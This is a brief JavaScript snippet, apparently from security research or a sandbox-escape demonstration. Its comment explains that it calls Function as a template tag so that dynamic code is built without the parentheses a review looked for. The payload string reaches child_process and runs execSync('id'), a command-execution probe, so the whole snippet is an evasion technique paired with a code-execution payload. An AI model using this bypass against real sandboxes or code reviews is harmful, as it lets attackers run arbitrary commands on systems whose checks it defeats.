// Function called as a template tag: Function`...` builds a function from
// the template text, without the parenthesis the review looked for.
const payload = "return process.mainModule.require(\"child_process\").execSync(\"id\").toString()";
const run = new Function`${payload}`;
console.log(Function`return 42`());
